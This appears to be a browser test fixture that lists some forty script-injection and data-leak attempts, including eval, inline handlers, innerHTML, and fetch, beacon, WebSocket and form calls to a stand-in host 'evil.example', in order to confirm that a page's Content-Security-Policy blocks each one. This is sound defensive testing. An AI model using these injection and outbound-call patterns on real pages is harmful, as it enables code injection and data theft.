/* oxlint-disable no-eval, typescript/no-implied-eval -- this is what an injection does; the page's policy has to stop it. */
/**
 * Ways in which text that got into a page tries to become code or to leave the machine. Each runs in the page itself
 * and must raise a violation of the page's policy.
 */
const add = (tag, set) => {
  const element = document.createElement(tag);
  set(element);
  document.body.append(element);
};
const AWAY = 'https://evil.example/';

window.injections = {
  'inline script': () => add('script', (it) => it.append('window.wasRun = true')),
  'inline handler': () => add('p', (it) => it.setAttribute('onclick', 'window.wasRun = true')),
  'script from elsewhere': () => add('script', (it) => it.setAttribute('src', `${AWAY}x.js`)),
  'script from a data address': () =>
    add('script', (it) => it.setAttribute('src', 'data:text/javascript,window.wasRun=true')),
  'script from a blob': () =>
    add('script', (it) => it.setAttribute('src', URL.createObjectURL(new Blob(['window.wasRun = true'])))),
  'script text': () => add('script', (it) => (it.text = 'window.wasRun = true')),
  eval: () => globalThis.eval('window.wasRun = true'),
  Function: () => new Function('window.wasRun = true')(),
  'timer with text': () => setTimeout('window.wasRun = true', 0),
  'import from elsewhere': () => import(`${AWAY}x.js`),
  'import of a data address': () => import('data:text/javascript,window.wasRun=true'),
  WebAssembly: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  'worker from a blob': () => new Worker(URL.createObjectURL(new Blob(['1']))),
  'worker from a data address': () => new Worker('data:text/javascript,1'),
  innerHTML: () => (document.createElement('div').innerHTML = '<img src=x onerror=1>'),
  outerHTML: () => (document.body.appendChild(document.createElement('div')).outerHTML = '<b>x</b>'),
  insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
  'document.write': () => document.write('<b>x</b>'),
  DOMParser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
  'contextual fragment': () => document.createRange().createContextualFragment('<b>x</b>'),
  srcdoc: () => add('iframe', (it) => it.setAttribute('srcdoc', '<script>1</script>')),
  'policy of its own': () => window.trustedTypes.createPolicy('evil', { createHTML: (text) => text }),
  fetch: () => fetch(AWAY),
  'fetch of our own origin': () => fetch('/index.html'),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest();
    request.open('GET', AWAY);
    request.send();
  },
  WebSocket: () => new WebSocket('wss://evil.example/'),
  EventSource: () => new EventSource(AWAY),
  beacon: () => navigator.sendBeacon(AWAY, 'x'),
  'picture from elsewhere': () => add('img', (it) => (it.src = `${AWAY}x.png`)),
  'style from elsewhere': () =>
    add('link', (it) => Object.assign(it, { rel: 'stylesheet', href: `${AWAY}x.css` })),
  'style without nonce': () => add('style', (it) => it.append('body{color:red}')),
  'style attribute': () => add('p', (it) => it.setAttribute('style', 'color:red')),
  'frame from elsewhere': () => add('iframe', (it) => (it.src = AWAY)),
  'frame of our own': () => add('iframe', (it) => (it.src = '/index.html')),
  object: () => add('object', (it) => (it.data = `${AWAY}x.pdf`)),
  embed: () => add('embed', (it) => (it.src = `${AWAY}x.pdf`)),
  'sound from elsewhere': () => add('audio', (it) => (it.src = `${AWAY}x.mp3`)),
  'other base address': () => add('base', (it) => (it.href = AWAY)),
  'form sent away': () => {
    const form = document.createElement('form');
    form.action = AWAY;
    document.body.append(form);
    form.submit();
  },
};

/** Runs one and answers the directive it violated, or null when nothing stopped it within the limit. */
window.tryInjection = (name, limitMs) =>
  new Promise((resolve) => {
    const timer = setTimeout(() => resolve(null), limitMs);
    document.addEventListener(
      'securitypolicyviolation',
      (event) => {
        clearTimeout(timer);
        resolve(event.effectiveDirective);
      },
      { once: true },
    );
    // From a task of the page's own: what a debugger evaluates may use eval whatever the policy says.
    setTimeout(() => {
      Promise.resolve()
        .then(window.injections[name])
        .catch(() => undefined);
    }, 0);
  });
window.isLoaded = true;
